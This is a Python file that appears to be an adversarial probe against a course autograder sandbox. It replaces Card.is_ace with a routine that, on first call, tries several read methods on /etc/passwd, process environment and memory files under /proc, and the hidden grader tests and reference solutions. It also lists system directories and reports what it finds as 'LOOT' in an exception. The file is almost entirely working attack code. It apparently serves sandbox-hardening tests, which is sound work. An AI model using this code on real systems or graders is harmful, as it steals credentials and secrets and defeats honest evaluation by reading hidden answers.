"""Reads what it can guess: system files, the kit's suites and solutions, other processes."""

import _io
import os
import posix
import sys

_NAMES = (
    "autograder/stages/stage1_card_hand/test_card.py",
    "solutions/stage1_card_hand/card.py",
    "stages/course.toml",
)


def _guesses():
    yield from (
        "/etc/passwd",
        "/etc/hostname",
        "/proc/1/environ",
        "/proc/1/cmdline",
        "/proc/1/maps",
    )
    yield from ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/self/mem")
    yield f"/proc/{os.getppid()}/environ"
    yield from ("@FOLDER@/secret", "/proc/1/cwd/secret", "/proc/1/root/etc/passwd")
    roots = [os.getcwd(), "@KIT@", "/kit", "..", ".", *sys.path]
    for module in list(sys.modules.values()):
        roots.append(os.path.dirname(getattr(module, "__file__", None) or "/"))
    for root in dict.fromkeys(roots):
        for up in ("", "..", "../..", "../../.."):
            for name in _NAMES:
                yield os.path.normpath(os.path.join(root, up, name))


def _ways(path):
    yield lambda: open(path).read()
    yield lambda: _io.open(path, "rb").read()
    yield lambda: _io.FileIO(path).read()
    yield lambda: posix.read(posix.open(path, os.O_RDONLY), 10_000)


def _attack(self):
    found = []
    for path in dict.fromkeys(_guesses()):
        for way in _ways(path):
            try:
                text = way()
            except BaseException:
                continue
            if text:
                found.append(f"{path}: {text[-60:]!r}")
    for path in ("/", "@FOLDER@", "/proc", "/tmp"):
        try:
            found += [f"{path}: {name}" for name in posix.listdir(path)]
        except OSError:
            pass
    if found:
        raise RuntimeError(f"LOOT {found[:3]}")
    return self.rank == ACE


_done = []


def _once(self):
    if not _done:
        _done.append(1)
        return _attack(self)
    return self.rank == ACE


Card.is_ace = _once
